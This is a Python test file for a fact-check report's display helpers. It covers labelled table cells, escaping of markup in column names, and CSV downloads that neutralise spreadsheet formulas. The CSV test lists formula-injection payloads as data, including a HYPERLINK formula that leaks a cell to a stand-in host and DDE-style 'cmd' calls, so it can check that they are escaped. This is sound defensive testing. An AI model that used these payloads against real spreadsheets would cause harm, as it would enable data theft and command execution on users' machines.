"""display.table: any small table the pages show reads on a phone as cards, each cell naming its column."""
from __future__ import annotations

import re
from html.parser import HTMLParser

import pandas as pd

from factcheck.report.display import table


class Cells(HTMLParser):
    """The body cells of a table, each as (its data-label, its text)."""

    def __init__(self):
        super().__init__()
        self.cells, self.label, self.in_body = [], None, False

    def handle_starttag(self, tag, attrs):
        self.in_body |= tag == "tbody"
        if tag == "td" and self.in_body:
            self.label = dict(attrs).get("data-label")
            self.cells.append([self.label, ""])

    def handle_data(self, data):
        if self.cells and self.label is not None:
            self.cells[-1][1] += data

    def handle_endtag(self, tag):
        if tag == "td":
            self.label = None


def test_every_body_cell_is_labelled_with_its_column_and_the_table_stacks_as_cards():
    frame = pd.DataFrame({"word": ["record", "doubled"], "reads as": ["the highest", "twice as many"],
                          "example": ["a record 1,000", ""]})
    html = table(frame, "Quantity words").html
    parser = Cells()
    parser.feed(html)
    assert parser.cells == [["word", "record"], ["reads as", "the highest"], ["example", "a record 1,000"],
                            ["word", "doubled"], ["reads as", "twice as many"], ["example", ""]]
    assert re.search(r'<table class="[^"]*\bfactcheck-cards\b', html)


def test_a_column_name_with_markup_is_escaped_in_the_label_too():
    html = table(pd.DataFrame({'say "<b>hi</b>"': ["<i>x</i>"]}), "Hostile").html
    assert 'data-label="say &quot;&lt;b&gt;hi&lt;/b&gt;&quot;"' in html
    assert "<b>" not in html and "<i>" not in html


def test_a_csv_download_never_hands_a_spreadsheet_a_formula_and_keeps_numbers_as_they_are():
    """A participant's note `=HYPERLINK("https://evil.example/?leak="&B2, ...)` reached the chapter's CSV download as
    written; a spreadsheet opening it would run it. Text that would start a formula is written as text; a cell holding a carriage return
    (which pandas leaves unquoted under its own line ending) stays one cell."""
    import base64
    import io
    import re

    import pandas as pd

    from factcheck.report.display import csv_download

    cells = ['=HYPERLINK("https://evil.example/?leak="&B2,"source")', "@SUM(1+9)*cmd|' /C calc'!A0",
             "+cmd|' /C calc'!A0", "-2+3", "\tx", "\r=1+1", "\0=1+1", "-3", "+2.5%", "-1,200", "a note", ""]
    frame = pd.DataFrame({"note": cells, "value": [-5, *range(1, 12)], "=HYPERLINK(\"x\")": 0})
    payload = re.search(r"base64,([^\"]+)\"", csv_download(frame, "x.csv")).group(1)
    written = base64.b64decode(payload).decode("utf-8")
    read = pd.read_csv(io.StringIO(written), keep_default_na=False, dtype=str)
    assert written.count("\r\n") == len(cells) + 1   # a row a line: the cell holding a carriage return is quoted
    assert read["note"].tolist() == ["'" + cell for cell in cells[:7]] + cells[7:]
    assert read["value"].tolist() == [str(n) for n in frame["value"]]   # numbers are not text: left alone
    assert list(read.columns) == ["note", "value", "'=HYPERLINK(\"x\")"]   # a heading is a cell too
    assert frame["note"].tolist() == cells   # the table the page shows is not changed
